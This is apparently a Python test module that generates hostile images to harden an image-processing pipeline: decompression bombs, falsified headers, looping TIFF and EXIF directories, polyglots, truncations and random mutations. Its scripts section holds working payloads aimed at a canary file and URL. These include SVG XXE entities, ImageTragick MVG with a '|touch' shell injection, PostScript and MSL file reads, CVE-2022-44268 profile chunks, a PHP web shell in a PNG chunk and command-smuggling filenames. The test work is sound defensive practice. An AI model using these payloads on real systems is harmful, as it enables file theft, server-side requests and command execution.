"""Pictures made to do harm, built by this script: bombs, lies in headers, foreign scripts, polyglots, cuts, mutations.

python -m tests.hostile.images --mutants 5000      runs them all and prints the counts by kind and outcome
"""

import argparse
import io
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import cache
from pathlib import Path
from random import Random
from typing import NamedTuple

import pyvips
from PIL import Image

from tests.hostile.canary import canary
from tests.hostile.image_runner import Outcome, Runner, table
from tests.media.make_images import (
    MEDIA,
    add_alpha,
    animation_frames,
    convert_profile,
    convert_to_lab,
    decompression_bomb,
    encode,
    encode_16_bit_png,
    encode_animation,
    encode_oriented,
    icc_profile,
    photograph,
)

#: Files that are worked on at the same time.
PROCESSES = 2


class Hostile(NamedTuple):
    """One file, what kind of trouble it is, and whether a whole picture may come of it all the same."""

    kind: str
    name: str
    content: bytes
    may_pass: bool = False


# Good files, which the others are made of --------------------------------------------------------------------------


@cache
def good() -> dict[str, bytes]:
    """One small file of each way to store a picture."""
    image = photograph().resize((96, 64))
    exif = Image.Exif()
    exif.update({0x0112: 6, 0x010F: "Maker", 0x8298: "(c)"})
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 12.0, 30.0)})
    cmyk = encode(convert_profile(image, "cmyk", "CMYK"), "JPEG", icc_profile=icc_profile("cmyk"))
    return {
        "plain.jpg": encode(image, "JPEG"),
        "progressive.jpg": encode(image, "JPEG", progressive=True),
        "told.jpg": encode(image, "JPEG", exif=exif.tobytes(), icc_profile=icc_profile("p3"), xmp=b"<x:xmpmeta/>"),
        "cmyk.jpg": cmyk,
        "plain.png": encode(image, "PNG"),
        "palette.png": encode(image.quantize(16), "PNG", transparency=0),
        "deep.png": encode_16_bit_png(image),
        "alpha.png": encode(add_alpha(image), "PNG"),
        "film.png": encode_animation("PNG", animation_frames((48, 32))),
        "plain.webp": encode(image, "WEBP"),
        "exact.webp": encode(add_alpha(image), "WEBP", lossless=True),
        "film.webp": encode_animation("WEBP", animation_frames((48, 32))),
        "plain.gif": encode(image, "GIF"),
        "film.gif": encode_animation("GIF", animation_frames((48, 32))),
        "plain.tiff": encode(image, "TIFF", exif=exif.tobytes()),
        "lzw.tiff": encode(image, "TIFF", compression="tiff_lzw"),
        "jpeg.tiff": encode(image, "TIFF", compression="jpeg"),
        "deflated.tiff": encode(add_alpha(image), "TIFF", compression="tiff_adobe_deflate"),
        "lab.tiff": encode(convert_to_lab(image), "TIFF", compression="tiff_lzw"),
        "plain.bmp": encode(image, "BMP"),
        "palette.bmp": encode(image.quantize(16), "BMP"),
        "plain.avif": encode(add_alpha(image), "AVIF"),
        "turned.avif": encode_oriented(image, 6, "AVIF"),
        "film.avif": encode_animation("AVIF", animation_frames((48, 32))),
        "plain.heic": encode(image, "HEIF"),
        "turned.heic": encode_oriented(add_alpha(image), 5, "HEIF"),
    }


# Bombs -------------------------------------------------------------------------------------------------------------


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_with(chunk: bytes) -> bytes:
    """A good PNG with one more chunk behind its header."""
    content = good()["plain.png"]
    return content[:33] + chunk + content[33:]


def _zeros(megabytes: int) -> bytes:
    """So many of them, deflated to a thousandth."""
    packer = zlib.compressobj(9)
    part = bytes(1_000_000)
    return b"".join(packer.compress(part) for _ in range(megabytes)) + packer.flush()


def _gif(width: int, height: int, frames: bytes, *, table: bytes = b"\0\0\0\xff\xff\xff") -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + table + frames + b";"


_GIF_PIXEL = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"


def _tiff(width: int, height: int, *, strip: bytes, compression: int = 1, rows: int | None = None) -> bytes:
    """A grey TIFF that says it is so large, with one strip."""
    tags = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, compression),
        (262, 3, 1, 1),
        (273, 4, 1, 8 + 2 + 9 * 12 + 4),
        (277, 3, 1, 1),
        (278, 4, 1, rows or height),
        (279, 4, 1, len(strip)),
    ]
    entries = b"".join(struct.pack("<HHI", *tag[:3]) + struct.pack("<I", tag[3]) for tag in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", 0) + strip


def _webp_header(width: int, height: int) -> bytes:
    """An extended header that says it is so large, and the pixels of a small picture."""
    body = bytes([0x10, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    inner = good()["plain.webp"][12:]
    chunks = b"VP8X" + struct.pack("<I", 10) + body + inner
    return b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks


def bombs() -> Iterator[Hostile]:
    """Little files that become large."""
    yield Hostile("bomb", "png-40000.png", decompression_bomb(40_000))
    yield Hostile("bomb", "png-15000.png", decompression_bomb(15_000), may_pass=True)
    deflated = zlib.compress(bytes(16_000 * 1_000), 9)
    yield Hostile("bomb", "sideways-at-the-limit.jpg", _sideways(15_810), may_pass=True)
    yield Hostile("bomb", "sideways-beyond-the-limit.jpg", _sideways(15_812))
    yield Hostile("bomb", "tiff-60000.tiff", _tiff(60_000, 60_000, strip=deflated, compression=8))
    yield Hostile("bomb", "tiff-strip.tiff", _tiff(10, 10, strip=_zeros(300), compression=8), may_pass=True)
    yield Hostile("bomb", "tiff-rows.tiff", _tiff(16_000, 15_000, strip=deflated, compression=8, rows=2**31 - 1))
    yield Hostile("bomb", "gif-65535.gif", _gif(65_535, 65_535, _GIF_PIXEL), may_pass=True)
    yield Hostile("bomb", "gif-15000.gif", _gif(15_000, 15_000, _GIF_PIXEL), may_pass=True)
    yield Hostile("bomb", "gif-100000-frames.gif", _gif(1, 1, _GIF_PIXEL * 100_000))
    yield Hostile("bomb", "gif-1000-large-frames.gif", _gif(5_000, 5_000, _GIF_PIXEL * 1_000), may_pass=True)
    yield Hostile("bomb", "webp-16384.webp", _webp_header(16_384, 16_384))
    yield Hostile("bomb", "webp-16777216.webp", _webp_header(1 << 24, 1 << 24))
    yield Hostile("bomb", "bmp-runs.bmp", _bmp(30_000, 30_000))
    yield Hostile("bomb", "bmp-runs-small.bmp", _bmp(9_000, 9_000), may_pass=True)
    for kind in (b"zTXt", b"iTXt", b"iCCP"):
        middle = {b"zTXt": b"Comment\0\0", b"iTXt": b"Comment\0\x01\0\0\0", b"iCCP": b"profile\0\0"}[kind]
        yield Hostile("bomb", f"png-{kind.decode()}.png", _png_with(_chunk(kind, middle + _zeros(400))), may_pass=True)
    many = b"".join(_chunk(b"zTXt", b"Comment\0\0" + _zeros(5)) for _ in range(200))
    yield Hostile("bomb", "png-many-zTXt.png", _png_with(many), may_pass=True)
    xmp = _chunk(b"iTXt", b"XML:com.adobe.xmp\0\x01\0\0\0" + _zeros(400))
    yield Hostile("bomb", "png-xmp.png", _png_with(xmp), may_pass=True)
    yield Hostile("bomb", "png-exif.png", _png_with(_chunk(b"eXIf", bytes(20_000_000))), may_pass=True)


def _sideways(side_px: int) -> bytes:
    """A JPEG of one colour that has to be turned, for which all its pixels are held."""
    image = pyvips.Image.black(side_px, side_px, bands=3).copy(interpretation="srgb")
    image.set_type(pyvips.GValue.gint_type, "orientation", 6)
    return bytes(image.jpegsave_buffer(Q=50))


def _bmp(width: int, height: int) -> bytes:
    """A bitmap of run lengths, all of them zero, which says it is so large."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, 0, 0, 0, 256, 0)
    at = 14 + len(info) + 1024
    return b"BM" + struct.pack("<IHHI", at + 2, 0, 0, at) + info + bytes(1024) + b"\0\x01"


# Lies --------------------------------------------------------------------------------------------------------------


def _patched(content: bytes, at: int, value: bytes) -> bytes:
    return content[:at] + value + content[at + len(value) :]


def _png_sized(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return good()["plain.png"][:8] + _chunk(b"IHDR", header) + good()["plain.png"][33:]


def lies() -> Iterator[Hostile]:
    """Headers that do not tell the truth."""
    jpeg, gif, bmp = good()["plain.jpg"], good()["plain.gif"], good()["plain.bmp"]
    frame = jpeg.index(b"\xff\xc0") + 5
    for size in ((0, 0), (0, 64), (65_535, 65_535), (65_500, 1), (1, 65_535), (15_000, 15_000)):
        lie = _patched(jpeg, frame, struct.pack(">HH", *size[::-1]))
        # libjpeg paints what is missing grey and only warns, as browsers do.
        yield Hostile("lie", f"jpeg-{size}.jpg", lie, may_pass=size in ((65_500, 1), (15_000, 15_000)))
    for size in ((0, 0), (0, 1), (65_535, 65_535), (2**31 - 1, 1), (2**32 - 1, 2**32 - 1), (96, 2_000_000)):
        yield Hostile("lie", f"png-{size}.png", _png_sized(*size))
    for size in ((0, 0), (0, 64), (65_535, 65_535)):
        changed = _patched(gif, 6, struct.pack("<HH", *size))
        yield Hostile("lie", f"gif-{size}.gif", changed, may_pass=True)
    for size in ((0, 0), (-1, -1), (2**31 - 1, 2**31 - 1), (-(2**31), 1), (65_535, 65_535)):
        yield Hostile("lie", f"bmp-{size}.bmp", _patched(bmp, 18, struct.pack("<ii", *size)))
    for size in ((0, 0), (65_535, 65_535), (2**32 - 1, 2**32 - 1), (2**31, 1)):
        yield Hostile("lie", f"tiff-{size}.tiff", _tiff(*size, strip=b"\0" * 100))
    for name in ("plain.avif", "plain.heic"):
        at = good()[name].index(b"ispe") + 8
        for size in ((0, 0), (65_535, 65_535), (2**32 - 1, 2**32 - 1), (1, 1)):
            changed = good()[name].replace(good()[name][at : at + 8], struct.pack(">II", *size))
            yield Hostile("lie", f"{size}-{name}", changed)
    yield Hostile("lie", "jpeg-huffman.jpg", _broken_huffman(jpeg))
    yield Hostile("lie", "jpeg-huffman-full.jpg", _patched(jpeg, jpeg.index(b"\xff\xc4") + 5, b"\xff" * 16))
    yield Hostile("lie", "jpeg-quantisation.jpg", _patched(jpeg, jpeg.index(b"\xff\xdb") + 5, bytes(64)), may_pass=True)
    yield Hostile("lie", "jpeg-components.jpg", _patched(jpeg, frame + 4, b"\xff"))
    yield Hostile("lie", "jpeg-sampling.jpg", _patched(jpeg, frame + 6, b"\xff"))
    endless = jpeg[:2] + b"\xff\xe0\0\x10JFIF\0" + b"\xff\xfe\xff\xff" * 1000 + jpeg[2:]
    yield Hostile("lie", "jpeg-comments.jpg", endless, may_pass=True)
    yield Hostile("lie", "tiff-loop.tiff", b"II*\0" + struct.pack("<IHI", 8, 0, 8))
    loop = bytearray(_tiff(8, 8, strip=bytes(64)))
    loop[8 + 2 + 9 * 12 : 8 + 2 + 9 * 12 + 4] = struct.pack("<I", 8)
    yield Hostile("lie", "tiff-directory-loop.tiff", bytes(loop), may_pass=True)
    yield Hostile("lie", "tiff-tags.tiff", b"II*\0" + struct.pack("<IH", 8, 65_535) + bytes(1000))
    yield Hostile("lie", "exif-loop.jpg", _exif_loop(jpeg), may_pass=True)
    claimed = _chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    yield Hostile("lie", "png-frames.png", _png_with(claimed))
    yield Hostile("lie", "webp-size.webp", _patched(good()["plain.webp"], 4, b"\xff\xff\xff\xff"), may_pass=True)
    yield Hostile("lie", "avif-box.avif", _patched(good()["plain.avif"], 0, b"\0\0\0\x01"))
    yield Hostile(
        "lie",
        "avif-huge-box.avif",
        _patched(good()["plain.avif"], good()["plain.avif"].index(b"meta") - 4, b"\x7f\xff\xff\xff"),
    )
    for name, content in good().items():
        kind = name.rpartition(".")[2]
        for other in ("jpg", "png", "gif"):
            if other != kind:
                yield Hostile("lie", f"{name}.{other}", content, may_pass=True)


def _broken_huffman(jpeg: bytes) -> bytes:
    """The first table says it has more codes of one bit than there can be."""
    return _patched(jpeg, jpeg.index(b"\xff\xc4") + 5, b"\x09" + bytes(15))


def _exif_loop(jpeg: bytes) -> bytes:
    """EXIF whose directories lead back to themselves."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    body = b"Exif\0\0" + b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


# Scripts and polyglots ---------------------------------------------------------------------------------------------


def scripts(canary_file: str, canary_url: str) -> Iterator[Hostile]:
    """Text that a careless reader would carry out: it asks for the canary file or calls the canary server."""
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{canary_file}"><!ENTITY y SYSTEM "{canary_url}/svg">]>'
    svg = f'<?xml version="1.0"?>{entity}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    svg += f'<text>&x;&y;</text><image xlink:href="{canary_url}/image" width="9" height="9"/>'
    svg += f'<image xlink:href="file://{canary_file}" width="9" height="9"/><script>1</script></svg>'
    mvg = "push graphic-context\nviewbox 0 0 640 480\n"
    mvg += f"image over 0,0 0,0 'url({canary_url}/mvg\"|touch {canary_file}\")'\n"
    mvg += f"image over 0,0 0,0 'text:{canary_file}'\npop graphic-context\n"
    msl = f'<?xml version="1.0"?><image><read filename="{canary_file}"/><read filename="{canary_url}/msl"/></image>'
    postscript = f"%!PS\n({canary_file}) (r) file 100 string readline pop == showpage\n"
    pdf = "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(" + canary_url + "/pdf)>>>>endobj\n%%EOF"
    playlist = f"#EXTM3U\n#EXTINF:1,\nfile://{canary_file}\n#EXTINF:1,\n{canary_url}/hls\n#EXT-X-ENDLIST\n"
    for name, text in (
        ("xxe.svg", svg),
        ("tragick.mvg", mvg),
        ("tragick.msl", msl),
        ("shell.ps", postscript),
        ("open.pdf", pdf),
        ("list.m3u8", playlist),
    ):
        for suffix in ("", ".jpg", ".png", ".gif"):
            yield Hostile("script", name + suffix, text.encode())
    for number, target in enumerate(
        (canary_file, f"{canary_url}/name", f"|cat {canary_file}", "msl:/x", "@" + canary_file)
    ):
        named = target.replace("/", "\u2215")[:100]
        yield Hostile("script", f"{number}-{named}.jpg", good()["plain.jpg"], may_pass=True)
    for name in ("plain.png", "plain.jpg", "plain.gif"):
        yield Hostile("script", f"text-profile-{name}", _told(name, canary_file), may_pass=True)
    xmp = f'<?xml version="1.0"?>{entity}<x:xmpmeta xmlns:x="adobe:ns:meta/">&x;&y;</x:xmpmeta>'
    yield Hostile("script", "xmp-entities.jpg", encode(photograph(), "JPEG", xmp=xmp.encode()), may_pass=True)


def _told(name: str, canary_file: str) -> bytes:
    """CVE-2022-44268: a text chunk `profile` whose value is a path, and its like in other formats."""
    if name.endswith("png"):
        return _png_with(_chunk(b"tEXt", b"profile\0" + canary_file.encode()))
    if name.endswith("jpg"):
        body = b"profile\0" + canary_file.encode()
        return good()[name][:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + good()[name][2:]
    body = canary_file.encode()[:255]
    return good()[name][:-1] + b"\x21\xfe" + bytes([len(body)]) + body + b"\0;"


def polyglots() -> Iterator[Hostile]:
    """Files that are two things at once."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr("payload.html", "<script>alert(1)</script>" * 100)
    script = b"*/=1;alert(document.domain)//"
    for name, content in good().items():
        yield Hostile("polyglot", f"zip-{name}", content + archive.getvalue(), may_pass=True)
        yield Hostile("polyglot", f"pdf-behind-{name}", content + b"%PDF-1.4\n%%EOF", may_pass=True)
        yield Hostile("polyglot", f"pdf-before-{name}", b"%PDF-1.4\n" + content)
        yield Hostile("polyglot", f"postscript-before-{name}", b"%!PS-Adobe-3.0\n" + content)
    gif = good()["plain.gif"]
    yield Hostile("polyglot", "script.gif", b"GIF89a/*" + gif[8:] + script, may_pass=True)
    yield Hostile("polyglot", "script-plain.gif", b"GIF89a=1;alert(1)//" + gif[19:], may_pass=True)
    yield Hostile(
        "polyglot", "html.jpg", good()["plain.jpg"] + b"<html><script>alert(1)</script></html>", may_pass=True
    )
    yield Hostile(
        "polyglot", "php.png", _png_with(_chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>")), may_pass=True
    )
    kinds = ("plain.jpg", "plain.png", "plain.gif", "plain.webp", "plain.bmp", "plain.tiff", "plain.avif", "plain.heic")
    for one in kinds:
        for other in kinds:
            if one != other:
                half = len(good()[one]) // 2
                yield Hostile("polyglot", f"{one}-then-{other}", good()[one][:half] + good()[other], may_pass=True)


# Cuts and mutations ------------------------------------------------------------------------------------------------


def cuts() -> Iterator[Hostile]:
    """Every good file, cut at every tenth."""
    for name, content in good().items():
        for tenth in range(10):
            yield Hostile("cut", f"{tenth * 10}%-{name}", content[: len(content) * tenth // 10])


_EDGES = (
    b"\0",
    b"\xff",
    b"\x7f",
    b"\x80",
    b"\0\0",
    b"\xff\xff",
    b"\x7f\xff",
    b"\0\0\0\0",
    b"\xff\xff\xff\xff",
    b"\x80\0\0\0",
)


def mutants(count: int, seed: int = 1) -> Iterator[Hostile]:
    """So many damaged files, spread evenly over the good ones; the same for the same seed."""
    names = sorted(good())
    for number in range(count):
        name = names[number % len(names)]
        chance = Random(f"{seed} {number}")
        content = bytearray(good()[name])
        for _ in range(chance.choice((1, 1, 2, 4, 16))):
            _mutate(content, chance)
        yield Hostile("mutant", f"{number:05}-{name}", bytes(content), may_pass=True)


def _mutate(content: bytearray, chance: Random) -> None:
    # The first bytes stay mostly as they are, or nothing would come past the door; headers are hit more often.
    start = chance.choice((4, 8, 12))
    end = len(content) if chance.random() < 0.5 else min(len(content), 400)
    at = chance.randrange(start, max(end, start + 1))
    way = chance.randrange(7)
    if way == 0:
        content[at : at + 1] = bytes([chance.randrange(256)])
    elif way == 1 and at < len(content):
        content[at] ^= 1 << chance.randrange(8)
    elif way == 2:
        edge = chance.choice(_EDGES)
        content[at : at + len(edge)] = edge
    elif way == 3:
        del content[at : at + chance.choice((1, 2, 4, 30, 300))]
    elif way == 4:
        content[at:at] = chance.randbytes(chance.choice((1, 2, 4, 30, 300)))
    elif way == 5:
        source = chance.randrange(start, len(content) + 1)
        content[at:at] = content[source : source + chance.choice((4, 16, 64))]
    else:
        content[at : at + 16] = chance.randbytes(16)


def corpus(canary_file: str, canary_url: str, mutant_count: int, seed: int = 1) -> Iterator[Hostile]:
    """All of it. The good files come first: they must be read, or nothing here means anything."""
    for name, content in good().items():
        yield Hostile("good", name, content, may_pass=True)
    yield from bombs()
    yield from lies()
    yield from scripts(canary_file, canary_url)
    yield from polyglots()
    yield from cuts()
    yield from mutants(mutant_count, seed)


def run(mutant_count: int, seed: int, folder: Path, canary: tuple[str, str]) -> list[tuple[Hostile, Outcome]]:
    """Every file through every operation, in processes that may die without harm; `canary` is a path and a URL."""
    files = list(corpus(*canary, mutant_count, seed))

    def work(share: int) -> list[tuple[Hostile, Outcome]]:
        own = folder / str(share)
        own.mkdir()
        with Runner(own) as runner:
            return [(file, runner.run(file.name, file.content)) for file in files[share::PROCESSES]]

    with ThreadPoolExecutor(PROCESSES) as executor:
        return [result for results in executor.map(work, range(PROCESSES)) for result in results]


def complaints(results: list[tuple[Hostile, Outcome]]) -> list[str]:
    """What went wrong: defects, and pictures that came of what is none."""
    found = [f"{file.kind} {file.name}: {outcome.defect}" for file, outcome in results if outcome.defect]
    passed = [file for file, outcome in results if outcome.codes[:1] == ("made",) and not file.may_pass]
    return found + [f"{file.kind} {file.name}: it passed" for file in passed]


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.hostile.images", description=__doc__)
    parser.add_argument("--mutants", type=int, default=5000)
    parser.add_argument("--seed", type=int, default=1)
    asked = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, canary(MEDIA / "rocket.jpg", Path(folder)) as watched:
        results = run(asked.mutants, asked.seed, Path(folder), (str(watched.file), watched.url))
        wrong = complaints(results) + watched.touched()
    sys.stdout.write(table([(file.kind, outcome) for file, outcome in results]))
    sys.stdout.write("".join(f"{line}\n" for line in wrong))
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
